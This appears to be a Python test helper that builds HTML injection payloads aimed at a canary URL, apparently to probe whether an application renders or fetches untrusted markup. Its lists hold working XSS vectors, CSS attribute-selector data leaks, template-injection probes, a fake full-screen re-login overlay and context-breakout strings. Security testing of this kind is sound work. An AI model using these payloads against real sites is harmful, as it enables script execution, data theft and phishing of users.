"""Payloads of our own making: what somebody might write to have the desk load, run or ask something."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice

BASES = (
    "<script>arkivHit()</script>",
    "<script src={url}></script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<script type=module>import '{url}'</script>",
    "<img src={url}>",
    "<img src=x onerror=arkivHit()>",
    "<img/src=x/onerror=alert(1)>",
    "<img srcset='{url} 1x'>",
    "<picture><source srcset='{url}'><img src=x></picture>",
    "<svg onload=arkivHit()>",
    "<svg><script href='{url}'></script></svg>",
    "<svg><image href='{url}' width=9 height=9></svg>",
    "<svg><use href='{url}#x'></svg>",
    "<svg><animate attributeName=x dur=1s onbegin=alert(1)></svg>",
    "<svg><style>@import '{url}';</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=arkivHit()></style></mglyph></table></mtext></math>",
    "<body onload=alert(1) background='{url}'>",
    "<iframe src='{url}'></iframe>",
    "<iframe src='javascript:parent.arkivHit()'></iframe>",
    "<iframe srcdoc='<script>parent.arkivHit()</script>'></iframe>",
    "<object data='{url}'></object>",
    "<embed src='{url}'>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=prefetch href='{url}'>",
    "<link rel=preload as=image href='{url}'>",
    "<link rel=dns-prefetch href='{url}'><link rel=preconnect href='{url}'>",
    "<link rel=icon href='{url}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href='{url}/'><img src=relativ>",
    "<style>@import url({url});</style>",
    "<style>*{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:x;src:url({url})}}*{{font-family:x}}</style>",
    "<style>input[value^='a']{{background:url({url})}}li{{list-style:url({url})}}*{{cursor:url({url}),auto}}</style>",
    "<p style='background-image:url({url})'>x</p>",
    "<p style=\"background:image-set('{url}' 1x)\">x</p>",
    "<p style='content:url({url});border-image:url({url})'>x</p>",
    "<p style='back\\67round:\\75rl({url})'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999;background:url({url}) red'>Log ind igen</p>",
    "<video src='{url}' poster='{url}' autoplay></video>",
    "<audio src='{url}' autoplay></audio>",
    "<video><source onerror=arkivHit() src='{url}'></video>",
    "<video><track default src='{url}'></video>",
    "<input type=image src='{url}' autofocus onfocus=arkivHit()>",
    "<table background='{url}'><td background='{url}'>x</table>",
    "<form action='{url}'><button autofocus onfocus=alert(1)>x</button></form>",
    "<details open ontoggle=arkivHit()>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:arkivHit()' ping='{url}'>x</a>",
    "<template><img src='{url}'></template><noscript><img src='{url}'></noscript>",
    "<select autofocus onfocus=arkivHit()></select>",
    "<xmp><img src='{url}'></xmp><plaintext>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><img src={url}>-->",
    "<![CDATA[><img src='{url}' onerror=arkivHit()>]]>",
    "<isindex action='{url}' type=image><keygen autofocus onfocus=alert(1)>",
    "<dialog open><form method=dialog action='{url}'><button>x</button></form></dialog>",
    "{{{{7*7}}}}{{% import 'os' as os %}}${{7*7}}<%= 7*7 %>",
    "\u202e<img src={url}>\u2066\u2069\u200b\ufeff",
    "%3Cimg%20src%3D{url}%3E&lt;img src={url}&gt;&#60;img src={url}&#62;",
)
"""`{url}` is the canary's address."""

BREAKOUTS = ("", '">', "'>", "</textarea></title></style></pre></bdi>", "-->]]></script>", "` onmouseover=alert(1) x=`")
"""What ends where the page had put it."""


def payloads(url: str) -> list[str]:
    """All of them, each with an address of its own at the canary."""
    found: list[str] = []
    for breakout in BREAKOUTS:
        for base in BASES:
            found.append(breakout + base.format(url=f"{url}/{len(found)}"))
    return found


def in_turn(of: list[str], offset: int) -> Iterator[str]:
    """One after another, over and over."""
    return islice(cycle(of), offset, None)
